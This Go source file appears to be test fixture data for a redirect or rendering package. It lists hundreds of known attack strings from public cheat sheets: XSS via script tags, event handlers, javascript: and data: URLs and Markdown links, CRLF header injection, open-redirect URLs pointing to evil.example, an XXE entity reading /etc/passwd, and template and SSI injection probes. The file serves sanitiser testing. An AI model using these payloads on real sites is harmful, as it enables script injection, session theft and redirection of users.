package redirect

import "slices"

// attacks are inputs that became script, markup, a header or another target somewhere:
// OWASP's and PortSwigger's cheat sheets, html5sec.org, reports on Markdown renderers.
func attacks() []string {
	return slices.Concat(markupAttacks(), linkAttacks(), breakoutAttacks(), textAttacks())
}

func textAttacks() []string {
	return []string{
		`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
		`</style><script>alert(1)</script>`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`,
		`<script/src=//evil.example>`, `<script >alert(1)</script >`, `<<script>alert(1)//<</script>`, `<script` + "\x00" + `>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
		`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
		`<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`,
		`<base href=//evil.example>`, `<link rel=stylesheet href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<form action=//evil.example><input name=q><button>x</button></form>`, `<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
		`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<marquee onstart=alert(1)>`, `<style>@import '//evil.example'</style>`,
		`<p style="background:url(javascript:alert(1))">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`,
		`<a href="javascript:alert(1)">x</a>`, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `" autofocus onfocus=alert(1) x="`, "` onmouseover=alert(1) ",
		`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, ` javascript:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
		`javascript://example.org/%0aalert(1)`, `vbscript:msgbox(1)`, `data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD4=`,
		`//evil.example/x`, `\\evil.example\x`, `https:evil.example`, `https:/\evil.example`, `https://`, `https://good.example@evil.example/`,
		`https://good.example"onclick="alert(1)/`, `https://good.example/"><script>alert(1)</script>`, `https://good.example/'onclick='alert(1)`,
		"https://good.example/\r\nSet-Cookie: a=b", `https://good.example/; url=javascript:alert(1)`, `0; url=javascript:alert(1)`, "https://good.example/\u202egro.elpmaxe",
		`[x](javascript:alert(1))`, `[x](JAVASCRIPT&colon;alert(1))`, `[x](&#106;avascript:alert(1))`, `![x](javascript:alert(1))`, `<javascript:alert(1)>`,
		`[x]( java` + "\t" + `script:alert(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](https://e.example "onclick=alert(1)")`, `[x](https://e.example/"onclick="alert(1))`,
		"[x]: javascript:alert(1)\n\n[x]", "```\"onload=alert(1)\n<script>\n```", "`<script>alert(1)</script>`", `{{.Style}}{{template "own" .}}`, `${alert(1)}`,
		"<a\x00b href=javascript:alert(1)>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\xff\xfe<script>\xc0\xbc", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
		"\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>", "HTTP/1.1 200 OK\r\nX-Evil: 1",
	}
}

func markupAttacks() []string {
	return []string{
		`<img src=1 href=1 onerror="javascript:alert(1)"></img>`, `<audio src=1 onerror=alert(1)></audio>`, `<video src=1 onerror=alert(1)></video>`,
		`<body onpageshow=alert(1)>`, `<body onhashchange=alert(1)>`, `<body onresize=alert(1)>`, `<frameset onload=alert(1)>`, `<select autofocus onfocus=alert(1)>`,
		`<textarea autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<button popovertarget=x>a</button><input type=hidden id=x popover onbeforetoggle=alert(1)>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:alert(1)>`, `<svg><use href="data:image/svg+xml,<svg id='x'/>#x">`,
		`<svg><foreignObject><iframe srcdoc="x"></foreignObject></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><title><script>alert(1)</script></title></svg>`,
		`<svg/onload=alert(1)//`, `<svg	onload=alert(1)>`, "<svg\nonload\n=\nalert(1)>", "<svg\fonload=alert(1)>", `<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<noembed><img title="</noembed><img src onerror=alert(1)>">`,
		`<xmp><img title="</xmp><img src onerror=alert(1)>">`, `<plaintext><script>alert(1)</script>`, `<listing>&lt;img onerror=alert(1) src=x&gt;</listing>`,
		`<isindex type=image src=1 onerror=alert(1)>`, `<dialog open onclose=alert(1)><form method=dialog><button>x`, `<a href=# onclick=alert(1) accesskey=x>`,
		`<div style="animation-name:x" onanimationstart=alert(1)>`, `<div style="width:expression(alert(1))">`, `<div style="-moz-binding:url(//evil.example)">`, `<x contenteditable onblur=alert(1)>`,
		`<x onclick=alert(1) tabindex=1>`, `<custom-element onfocus=alert(1) tabindex=0 autofocus>`, `<slot name=x><script>alert(1)</script></slot>`, `<portal src=javascript:alert(1)>`,
		`<fencedframe src=//evil.example>`, `<applet code=x>`, `<bgsound src=javascript:alert(1)>`, `<layer src=//evil.example>`, `<xml src=//evil.example>`, `<?xml-stylesheet href="javascript:alert(1)"?>`,
		`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`, `<link rel=preload as=script href=//evil.example>`, `<link rel=import href=//evil.example>`,
		`<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta http-equiv=set-cookie content="a=b">`, `<meta name=referrer content=unsafe-url>`, `<img srcset="//evil.example 1x">`,
		`<picture><source srcset=//evil.example></picture>`, `<img src="//evil.example/?`, `<a ping=//evil.example href=//evil.example>x</a>`, `<table background=//evil.example>`, `<body background=javascript:alert(1)>`,
		`<input type=image src=x onerror=alert(1)>`, `<button formaction=javascript:alert(1)>x</button>`, `<object data="data:text/html,<script>alert(1)</script>">`, `<param name=movie value=//evil.example>`,
	}
}

func linkAttacks() []string {
	return []string{
		"javascript\x00:alert(1)", "java\x0bscript:alert(1)", "java&#x0A;script:alert(1)", "&#106;&#97;&#118;&#97;script:alert(1)", "javascript&#58;alert(1)", "javascript&colon;alert(1)", "\u200bjavascript:alert(1)",
		"\ufeffjavascript:alert(1)", "\u00a0javascript:alert(1)", "javascript\u2028:alert(1)", "ｊavascript:alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:https://evil.example!/x",
		"blob:https://evil.example/x", "filesystem:https://evil.example/x", "file:///etc/passwd", "about:blank#<script>", "mhtml:https://evil.example", "ms-its:x", "livescript:alert(1)", "mocha:alert(1)", "data:,<svg/onload=alert(1)>",
		"data:image/svg+xml;base64,PHN2Zz4=", "DATA:text/html,x", "ws://evil.example/", "intent://evil.example#Intent;scheme=http;end", "tel:+1", "mailto:a@evil.example?bcc=b", "https:///evil.example/", "http:\\\\evil.example\\", "///evil.example/x",
		"/\\evil.example", "https://good.example\\@evil.example/", "https://good.example%2f@evil.example/", "https://good.example:80@evil.example/", "https://user:pass@evil.example/", "https://good.example%00.evil.example/", "https://good.example\u3002evil.example\u2044x",
		"https://[::1]@evil.example/", "https://good.example\t.evil.example/", "https://good.example/\x00", "https://good.example/\x7f", "https://good.example/\u202e", "https://good.example/\u2066x", "https://good.example/?a=<script>alert(1)</script>",
		"https://good.example/#\"><img src=x onerror=alert(1)>", "https://good.example/%0d%0aSet-Cookie:%20a=b", "https://good.example/%22onmouseover=alert(1)", "https://good.example/;url=javascript:alert(1)", "https://good.example/' url='javascript:alert(1)",
		"https://good.example/,0;url=data:text/html,x", "url=javascript:alert(1)", "0;javascript:alert(1)", "[a](<javascript:alert(1)>)", "[a](\x01javascript:alert(1))", "[a](javascript&#x3a;alert(1))", "[a](//evil.example)", "[a](https://good.example/\\\"onclick=alert(1))",
		"[a](vbscript:x)", "![a](\"onerror=\"alert(1))", "![a\"onerror=\"alert(1)](https://x.example/)", "[a][b]\n\n[b]: data:text/html,x \"t\"", "<https://good.example/\"onclick=alert(1)>", "[![a](javascript:alert(1))](javascript:alert(2))", "https://good.example/](javascript:alert(1))",
	}
}

func breakoutAttacks() []string {
	return []string{
		`</script><script>alert(1)</script>`, `</script/x><img src=x onerror=alert(1)>`, `</SCRIPT ><svg onload=alert(1)>`, `<!--<script>`, `<!-- <script> --></script><img src=x onerror=alert(1)>`, `"}</script><script>alert(1)//`,
		`","@type":"Person","x":"`, `"}]}`, `\"}`, `\`, `\\"`, `\u003c/script\u003e`, `\x3cscript\x3e`, "\u2028alert(1)\u2029", "*/alert(1)/*", "'-alert(1)-'", `"-alert(1)-"`, "`-alert(1)-`", `\';alert(1)//`,
		`</article></main></body></html><script>alert(1)</script>`, `</head><body onload=alert(1)>`, `</textarea><script>alert(1)</script>`, `</noscript><script>alert(1)</script>`, `</template><script>alert(1)</script>`, `</svg><script>alert(1)</script>`,
		`}</style><script>alert(1)</script>`, `*{background:url(//evil.example)}`, `x" content="0;url=//evil.example" http-equiv="refresh`, `@evil@evil.example" name="referrer`, `@a@b.example><script>alert(1)</script>`, `en" dir="rtl" onload="alert(1)`, `fr><script>`,
		"X-Injected: 1\r\n\r\n", "a\rLocation: //evil.example", "a\nLocation: //evil.example", "a\u560d\u560aLocation: //evil.example", "%0d%0aLocation:%20//evil.example", "a\x85Location: //evil.example", "a\x00\r\nX: y", "{{define \"page.html\"}}x{{end}}", "{{printf \"%s\" .Data}}",
		"{seconds}{day}{month}{year}<script>", "<%= 7*7 %>", "#{7*7}", "<?php echo 1 ?>", "<esi:include src=//evil.example/>", "<!--#exec cmd=\"id\"-->", "\u202e</span><b>", "\xf4\x90\x80\x80<script>", "\xed\xa0\x80<script>", "\xc0\xae\xc0\xae/", "&#60;script&#62;", "&lt;/title&gt;&lt;script&gt;",
	}
}
